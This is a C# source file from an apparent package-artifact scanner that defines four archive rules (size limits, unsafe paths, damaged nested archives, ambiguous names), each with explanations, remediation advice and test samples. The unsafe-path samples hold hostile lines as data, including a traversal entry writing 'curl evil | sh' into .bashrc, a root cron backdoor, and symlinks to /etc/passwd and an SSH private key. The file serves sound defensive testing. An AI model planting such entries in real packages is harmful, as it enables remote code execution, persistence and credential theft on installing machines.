using PackGuard.Findings;
using PackGuard.Rules;

namespace PackGuard.Artifacts;

/// <summary>
/// The rules the artifact walker itself reports: limits crossed, unsafe or ambiguous entry names
/// and damaged nested archives. Each carries samples that the catalog test packs into a tarball and scans.
/// </summary>
public static class ArchiveRules
{
    /// <summary>An entry, the artifact or its nesting crossed one of <see cref="ArtifactLimits"/>.</summary>
    public const string LimitsExceeded = "archive/limits-exceeded";

    /// <summary>An entry name or link target that would be written outside the extraction directory.</summary>
    public const string UnsafePath = "archive/unsafe-path";

    /// <summary>A nested archive that cannot be read.</summary>
    public const string Corrupt = "archive/corrupt";

    /// <summary>An entry name that different tools or file systems read as different files.</summary>
    public const string AmbiguousName = "archive/ambiguous-name";

    /// <summary>The descriptor of <see cref="LimitsExceeded"/>.</summary>
    public static RuleDescriptor LimitsExceededRule { get; } = new(
        LimitsExceeded,
        "Archive limit exceeded",
        Severity.Medium,
        "An entry is larger than the entry-size limit, the artifact expands beyond the total-size limit, "
        + "it holds more entries than the entry limit, nested archives go deeper than the depth limit, or a "
        + "compressed stream expands at a ratio above the compression-ratio limit. What lies beyond the limit "
        + "was not inspected. A compression ratio above the limit is reported as high: it is how a "
        + "decompression bomb looks.",
        "Whatever PackGuard did not read, it could not vouch for: a secret or a source map past the limit "
        + "goes unseen. Packages this large are rarely intended, and a decompression bomb exhausts the disk "
        + "or memory of every machine that installs the package.",
        "Look at the entry named in the finding. If it should not ship (a build cache, a core dump, test data, "
        + "a vendored archive), remove it: for npm, narrow the \"files\" list in package.json or add it to "
        + ".npmignore, then check `npm pack --dry-run`; for NuGet, exclude it in the project file; then check "
        + "the build that produced the artifact. If the content is legitimate, raise the limit in the "
        + "PackGuard configuration for this package only.",
        [
            new("an entry larger than the entry-size limit", true,
                [new("package/package.json", """{"name":"big","version":"1.0.0"}"""),
                 new("package/dist/bundle.js", new string('x', 2048))],
                Severity.Medium) { Limits = new ArtifactLimits(MaxEntrySize: 1024) },
            new("more entries than the entry limit", true,
                [new("package/a.js", "a"), new("package/b.js", "b"), new("package/c.js", "c"), new("package/d.js", "d")],
                Severity.Medium) { Limits = new ArtifactLimits(MaxEntries: 3) },
            new("more content than the total-size limit", true,
                [new("package/a.txt", new string('a', 800)), new("package/b.txt", new string('b', 800))],
                Severity.Medium) { Limits = new ArtifactLimits(MaxTotalSize: 1000) },
            new("a compressed stream that expands like a decompression bomb", true,
                [new("package/zeros.txt", new string('0', 256 * 1024))],
                Severity.High) { Limits = new ArtifactLimits(MaxCompressionRatio: 20) { RatioThreshold = 64 * 1024 } },
            new("an archive nested deeper than the depth limit", true,
                [new("package/vendor/inner.tar", SampleTar.Archive(("inner.txt", "hello")))],
                Severity.Medium) { Limits = new ArtifactLimits(MaxDepth: 0) },
            new("an ordinary package within the default limits", false,
                [new("package/package.json", """{"name":"small","version":"1.0.0"}"""),
                 new("package/index.js", "module.exports = 42;\n")]),
            new("a nested archive within the depth limit", false,
                [new("package/vendor/inner.tar", SampleTar.Archive(("inner.txt", "hello")))]),
        ]);

    /// <summary>The descriptor of <see cref="UnsafePath"/>.</summary>
    public static RuleDescriptor UnsafePathRule { get; } = new(
        UnsafePath,
        "Unsafe path in archive",
        Severity.High,
        "An entry name contains a `..` segment or is absolute (`/etc/x`, `C:\\x`, `\\\\server\\x`), or a "
        + "symbolic or hard link points outside the archive root.",
        "A naive extractor writes such an entry outside the directory it extracts into (\"zip slip\"): it can "
        + "overwrite shell profiles, cron jobs or other packages on the machine that installs the package. "
        + "Package tools do not produce these names; they come from a hand-made or tampered archive.",
        "Do not publish or install this artifact. Rebuild it with the ecosystem's own tool (`npm pack`, "
        + "`dotnet pack`, `python -m build`) from a clean checkout and compare; if links are needed, point them "
        + "at files inside the package with relative targets. If you received the artifact, report it to the "
        + "registry and its maintainers.",
        [
            new("a name that climbs out with ..", true,
                [new("package/index.js", "ok"), new("package/../../../home/user/.bashrc", "curl evil | sh")],
                Severity.High),
            new("an absolute name", true,
                [new("/etc/cron.d/backdoor", "* * * * * root sh /tmp/x")], Severity.High),
            new("a Windows drive name", true,
                [new("C:\\Windows\\Temp\\evil.dll", "MZ")], Severity.High),
            new("a symbolic link that points outside the package", true,
                [new("package/config", "", LinkTarget: "../../../../etc/passwd")], Severity.High),
            new("an absolute symbolic link", true,
                [new("package/key", "", LinkTarget: "/home/user/.ssh/id_rsa")], Severity.High),
            new("ordinary names and a link inside the package", false,
                [new("package/index.js", "module.exports = 1;"),
                 new("package/lib/alias.js", "", LinkTarget: "../index.js")]),
            new("names that only look like traversal", false,
                [new("package/..config/settings.json", "{}"), new("package/a..b.js", "x")]),
        ]);

    /// <summary>The descriptor of <see cref="Corrupt"/>.</summary>
    public static RuleDescriptor CorruptRule { get; } = new(
        Corrupt,
        "Damaged nested archive",
        Severity.Medium,
        "An archive inside the artifact (a tarball, zip, jar or gzip file among its entries) is truncated or "
        + "malformed, so its contents were not inspected. The walk went on with the next entry.",
        "A damaged archive is either a build mistake (a partial download, a file cut while it was being "
        + "written) or content crafted to confuse scanners while another tool still extracts it. Either way, "
        + "what is inside it was not checked.",
        "Look at the entry named in the finding. If the package needs it, regenerate it in the build and "
        + "check that it extracts (`tar -tf`, `unzip -t`); if it does not, remove it from the package (npm: the "
        + "\"files\" list or .npmignore; NuGet: the project file). Then check the build that produced the artifact.",
        [
            new("a truncated nested tar", true,
                [new("package/vendor/lib.tar", SampleTar.Truncated("lib/index.js", "module.exports = 1;"))],
                Severity.Medium),
            new("a file that starts like a zip but is not one", true,
                [new("package/assets/data.zip", "PK\u0003\u0004 this is not really a zip archive")],
                Severity.Medium),
            new("a well-formed nested tar", false,
                [new("package/vendor/lib.tar", SampleTar.Archive(("lib/index.js", "module.exports = 1;")))]),
            new("a text file that merely starts with PK", false,
                [new("package/README.txt", "PK notes: nothing to see here")]),
        ]);

    /// <summary>The descriptor of <see cref="AmbiguousName"/>.</summary>
    public static RuleDescriptor AmbiguousNameRule { get; } = new(
        AmbiguousName,
        "Ambiguous entry name",
        Severity.Medium,
        "An entry name appears twice in the archive, differs from another only in letter case, is not valid "
        + "UTF-8, or holds control characters (escape sequences, newlines, bells); or a zip entry's local header "
        + "names another file than the central directory does (high: no packaging tool writes that).",
        "Such names unpack differently from tool to tool: extractors keep the first or the last of two copies "
        + "(npm keeps the last, so a second package.json replaces the one a reviewer read), Windows and macOS "
        + "keep one of two names that differ in case, invalid UTF-8 is decoded differently, and control "
        + "characters rewrite the terminal or log that prints the name. Package tools do not write them; "
        + "PackGuard inspects every copy, but what is installed may not be what was reviewed.",
        "Rebuild the artifact with the ecosystem's own tool (`npm pack`, `dotnet pack`, `python -m build`) from a "
        + "clean checkout, so that each file appears once under a plain name; rename files that differ only in "
        + "case. If you received the artifact, do not install it before you know why it was built this way.",
        [
            new("the same name twice", true,
                [new("package/index.js", "module.exports = 1;"), new("package/index.js", "module.exports = 2;")],
                Severity.Medium),
            new("two names that differ only in case", true,
                [new("package/readme.md", "a"), new("package/README.md", "b")], Severity.Medium),
            new("a name holding a terminal escape sequence", true,
                [new("package/\u001b[2Kok.js", "x")], Severity.Medium),
            new("a name that was not valid UTF-8", true,
                [new("package/\uFFFD.js", "x")], Severity.Medium),
            new("distinct names, accents and spaces included", false,
                [new("package/index.js", "1"), new("package/lib/index.js", "2"), new("package/café au lait.js", "3")]),
        ]);

    /// <summary>Every archive rule.</summary>
    public static IReadOnlyList<RuleDescriptor> All { get; } = [LimitsExceededRule, UnsafePathRule, CorruptRule, AmbiguousNameRule];
}
